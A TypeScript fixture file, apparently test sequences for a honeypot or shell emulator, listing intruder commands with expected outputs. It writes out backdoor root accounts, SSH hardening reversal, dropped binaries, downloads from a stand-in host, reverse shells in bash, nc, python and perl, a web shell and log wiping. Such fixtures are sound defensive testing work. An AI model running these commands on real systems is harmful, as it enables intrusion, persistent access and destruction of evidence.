import { eicar, type Sequence, tinyElf } from './sequence.ts'

const host = '192.0.2.77'
const dropped = tinyElf('x86-64', 4)

/** What people and simple bots do to stay, and the ways in which files get onto a machine that has no network. */
export const footholds: Sequence[] = [
  {
    name: 'A bot that only asks what this is',
    how: 'exec',
    lines: ['uname -s -v -n -r -m'],
    output: [/^Linux \S+ 6\.1\.0-\d+-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6\.1\.\d+-\d+ \(20\d\d-\d\d-\d\d\) x86_64\n$/],
  },
  {
    name: 'Questions of many bots, one line',
    how: 'exec',
    lines: [
      'export LC_ALL=C; echo -e "\\x6F\\x6B"; uname -a; cat /proc/version; cat /etc/issue; cat /etc/*release | head -2; id; pwd; ls -la /; uptime; last | head -2; ifconfig | head -1; ip a | head -2; ss -tln | head -2; env | grep -c PATH; nproc; df -h / | tail -1; mount | head -1; lsb_release -d 2>/dev/null; dmidecode -s system-product-name; lspci | head -1; which wget curl tftp python3 perl gcc nc busybox; echo $?',
    ],
    output: [/^ok$/m, /^Linux version 6\.1/m, /PRETTY_NAME="Debian GNU\/Linux 12/, /^\/usr\/bin\/wget$/m],
  },
  {
    name: 'An account with the rights of root, and a door that stays open',
    how: 'exec',
    lines: [
      'useradd -m -s /bin/bash -G sudo support; echo "support:Qaz!2wsx" | chpasswd; id support',
      'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm; echo -e "p4ss\\np4ss" | passwd sysadm',
      "sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication yes/; s/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config; grep -E '^(PasswordAuthentication|PermitRootLogin)' /etc/ssh/sshd_config; systemctl restart sshd || service ssh restart",
      "echo 'support ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers; tail -1 /etc/sudoers; grep -c sysadm /etc/passwd",
      'mkdir -p /home/support/.ssh; ssh-keygen -q -t ed25519 -N "" -f /tmp/k; cat /tmp/k.pub > /home/support/.ssh/authorized_keys; chown -R support: /home/support/.ssh; ls -l /home/support/.ssh',
      'userdel -r support; id support',
    ],
    accounts: [
      { user: 'support', change: 'created' },
      { user: 'support', change: 'password', password: 'Qaz!2wsx' },
      { user: 'sysadm', change: 'created' },
      { user: 'sysadm', change: 'password', password: 'p4ss' },
      { user: 'support', change: 'key' },
      { user: 'support', change: 'removed' },
    ],
    output: [/groups=\d+\(support\),27\(sudo\)/, /^PasswordAuthentication yes$/m, /authorized_keys/],
    errors: [
      /uid 0 outside of the UID_MIN 1000 and UID_MAX 60000 range/,
      /New password:|Retype new password:|password updated successfully/,
      /mail spool \(.*\) not found/,
      /id: .support.: no such user/,
    ],
  },
  {
    name: 'A file out of base64',
    how: 'exec',
    lines: [
      `echo ${dropped.toString('base64')} | base64 -d > /tmp/.ice; chmod 777 /tmp/.ice; /tmp/.ice &`,
      `base64 -d <<< "${Buffer.from(eicar).toString('base64')}" > /tmp/e.com; md5sum /tmp/e.com; rm /tmp/e.com`,
    ],
    samples: [dropped, eicar],
    runs: ['/tmp/.ice'],
    output: [/44d88612fea8a8f36de82e1278abb02f {2}\/tmp\/e\.com/],
  },
  {
    name: 'A file out of printf, dd, python and perl',
    how: 'exec',
    lines: [
      `printf '${[...dropped].map(byte => `\\${byte.toString(8).padStart(3, '0')}`).join('')}' | dd of=/tmp/dd bs=1 2>/dev/null; wc -c < /tmp/dd; cmp /tmp/dd /tmp/dd && chmod +x /tmp/dd && /tmp/dd`,
      `python3 -c "import base64;open('/tmp/py','wb').write(base64.b64decode('${dropped.toString('base64')}'))"; chmod +x /tmp/py; /tmp/py`,
      `perl -e 'print pack("H*","${dropped.toString('hex')}")' > /tmp/pl; chmod +x /tmp/pl; /tmp/pl`,
      'sha256sum /tmp/dd /tmp/py /tmp/pl | cut -d" " -f1 | sort -u | wc -l',
    ],
    samples: [dropped],
    runs: ['/tmp/dd', '/tmp/py', '/tmp/pl'],
    output: [/^1$/m],
  },
  {
    name: 'Downloads by what is there: python, perl, busybox, /dev/tcp',
    how: 'exec',
    lines: [
      `python3 -c "import urllib.request;urllib.request.urlretrieve('http://${host}/p.py','/tmp/p.py')"; ls /tmp/p.py`,
      `busybox wget -q http://${host}/b -O /tmp/b; chmod +x /tmp/b; ls -l /tmp/b | cut -c1-10`,
      `wget -qO- http://${host}/shellbot.pl > /tmp/.sb; perl /tmp/.sb ${host}; rm -f /tmp/.sb`,
      `exec 3<>/dev/tcp/${host}/80; echo -e "GET /t HTTP/1.0\\r\\n\\r\\n" >&3; timeout 1 cat <&3 | head -1`,
    ],
    urls: [`http://${host}/p.py`, `http://${host}/b`, `http://${host}/shellbot.pl`],
    connections: [{ host, port: 80 }],
    output: [/^\/tmp\/p\.py$/m, /^-rwxr-xr-x$/m],
  },
  {
    name: 'A reverse shell in every language of the cheat sheets',
    how: 'exec',
    lines: [
      `bash -i >& /dev/tcp/${host}/4444 0>&1`,
      `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -w 1 ${host} 4445 > /tmp/f`,
      `nc -e /bin/sh ${host} 4446`,
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("${host}",4447));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
      `perl -e 'use Socket;$i="${host}";$p=4448;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`,
    ],
    patience: 3,
    connections: [4444, 4445, 4446, 4447, 4448].map(port => ({ host, port })),
  },
  {
    name: 'A web shell and a script that is typed in',
    how: 'shell',
    lines: [
      'cd /var/www/html',
      "cat > .s.php << 'X'",
      '<?php echo md5("test"); ?>',
      'X',
      'ls -la .s.php',
      'cat > /tmp/go.sh <<X',
      '#!/bin/sh',
      'echo "going on \\$1"',
      'X',
      'chmod 755 /tmp/go.sh && /tmp/go.sh now',
      'exit 3',
    ],
    samples: ['<?php echo md5("test"); ?>\n', '#!/bin/sh\necho "going on $1"\n'],
    runs: ['/tmp/go.sh'],
    output: [/going on now\n/, /-rw-r--r-- 1 root root 27 /],
  },
  {
    name: 'Traces wiped',
    how: 'exec',
    lines: [
      'export HISTFILE=/dev/null; unset HISTFILE; history -c; history -w',
      'echo > /var/log/wtmp; echo > /var/log/btmp; > /var/log/lastlog; cat /dev/null > /var/log/auth.log; rm -rf /var/log/syslog*; last; lastlog | head -1; wc -c /var/log/auth.log',
      'for f in /var/log/*.log; do :> $f; done; ls -l /var/log/*.log | wc -l > /dev/null; echo wiped',
      'shred -u /root/.bash_history; ls -la /root | grep -c bash_history; ln -sf /dev/null /root/.bash_history; readlink /root/.bash_history',
    ],
    output: [/^wiped$/m, /^0 \/var\/log\/auth\.log$/m, /^\/dev\/null$/m],
    errors: [/wtmp/],
  },
]
